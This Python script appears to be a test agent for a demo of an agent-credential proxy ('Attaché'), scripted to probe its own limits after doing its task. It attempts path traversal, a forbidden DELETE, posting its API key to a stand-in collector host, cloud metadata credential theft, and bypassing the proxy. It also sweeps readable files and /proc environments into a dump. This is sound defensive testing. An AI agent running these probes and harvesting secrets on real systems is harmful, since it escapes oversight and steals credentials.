"""A curious agent. It does the quickstart agent's work, then tries what it
must not, and writes down everything that it can read.

Lines that begin with "RESULT " are for the demo; the demo judges them.
"""

import base64
import http.client
import json
import os
import socket
import ssl
import stat
import sys
import urllib.request

sys.path.insert(0, os.environ["DEMO_EXAMPLE"])
import agent  # noqa: E402  (the path is set above)

SKIP_LARGER = 8 << 20


def result(name, status, text, **more):
    print("RESULT " + json.dumps({"name": name, "status": status, "text": text, **more}), flush=True)


def attempt(name, method, url, headers=None, body=None):
    """Make a call through whatever the environment says."""
    try:
        status, got, data = agent.call(method, url, headers, body)
    except OSError as e:
        result(name, 0, str(e))
        return
    text = data.decode("utf-8", "replace").strip()
    try:
        problem = json.loads(text)
        code, text = problem.get("code", ""), problem.get("detail", text)
    except (ValueError, AttributeError):
        code = ""
    result(name, status, text, code=code, record=got.get("Attache-Record", ""))


def direct(name, host, headers):
    """Make a call past Attaché, straight to the API."""
    address, port = os.environ["DEMO_APIS"].rsplit(":", 1)
    context = ssl.create_default_context(cafile=os.environ["DEMO_CA"])
    try:
        raw = socket.create_connection((address, int(port)), timeout=10)
        connection = http.client.HTTPSConnection(host, timeout=10)
        connection.sock = context.wrap_socket(raw, server_hostname=host)
        connection.request("GET", "/v1/tickets/7", headers=headers)
        answer = connection.getresponse()
        result(name, answer.status, answer.read().decode().strip())
    except OSError as e:
        result(name, 0, str(e))


def read(path):
    with open(path, "rb") as f:
        return f.read(SKIP_LARGER)


def steal(name, path):
    """Read a file by its name, in case it is there but not listed."""
    try:
        if stat.S_ISSOCK(os.stat(path).st_mode):
            with socket.socket(socket.AF_UNIX) as s:
                s.connect(path)
            result(name, 1, "connected")
        elif os.path.isdir(path):
            names = os.listdir(path)
            result(name, 1 if names else 0, f"a folder of {len(names)} entries")
        else:
            size = len(read(path))
            result(name, 1 if size else 0, f"{size} bytes")
    except OSError as e:
        result(name, 0, os.strerror(e.errno) if e.errno else str(e))


def sweep(out, roots):
    """Copy all that can be read below roots, and of all processes."""
    count = 0

    def keep(name, data):
        nonlocal count
        count += 1
        out.write(json.dumps({"name": name, "data": base64.b64encode(data).decode()}) + "\n")

    keep("environment", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for part in ("environ", "cmdline", "maps", "mountinfo"):
            try:
                keep(f"/proc/{pid}/{part}", read(f"/proc/{pid}/{part}"))
            except OSError:
                pass
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                path = f"/proc/{pid}/fd/{fd}"
                if int(pid) != os.getpid() and stat.S_ISREG(os.stat(path).st_mode):
                    keep(path, read(path))
        except OSError:
            pass
    mine = os.path.realpath(out.name)
    for root in roots:
        for folder, _, names in os.walk(root):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    if stat.S_ISREG(os.lstat(path).st_mode) and os.path.realpath(path) != mine:
                        keep(path, read(path))
                except OSError:
                    pass
    return count


def main():
    status = agent.main()
    placeholder = os.environ["NOTES_API_KEY"]
    tickets, reports, notes = (f"https://{n}.attache.example" for n in ("tickets", "reports", "notes"))
    agent.call("GET", f"{reports}/v1/canary")
    attempt("echo", "GET", f"{reports}/v1/echo", {"X-Api-Key": placeholder, "Authorization": "Bearer made-up-by-the-agent"})
    attempt("method", "DELETE", f"{tickets}/v1/tickets/7")
    attempt("path", "GET", f"{reports}/internal")
    attempt("trick", "GET", f"{reports}/v1/..%2finternal")
    attempt("reason", "GET", f"{tickets}/v1/tickets/admin/keys")
    attempt("host", "GET", "https://elsewhere.attache.example/")
    attempt("elsewhere", "POST", "https://collector.attache.example/", {"X-Api-Key": placeholder}, {"key": placeholder})
    attempt("ambient", "GET", f"{notes}/v1/notes")
    attempt("site", "GET", f"{notes}/v1/notes", {"X-Api-Key": placeholder, "Origin": "https://evil.example"})
    attempt("metadata", "GET", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")
    direct("direct", "tickets.attache.example", {})
    direct("direct-key", "notes.attache.example", {"X-Api-Key": placeholder})
    for i, path in enumerate(os.environ["DEMO_HIDDEN"].split(":")):
        steal(f"file-{i}", path)
    print("RESULT " + json.dumps({"name": "ready"}), flush=True)
    sys.stdin.readline()  # the demo calls from outside now
    roots = os.environ["DEMO_ROOTS"].split(":") + [os.path.dirname(os.environ["SSL_CERT_FILE"])]
    with open(os.environ["DEMO_SWEEP"], "w", encoding="utf-8") as out:
        result("sweep", status, str(sweep(out, roots)))
    return status


if __name__ == "__main__":
    sys.exit(main())
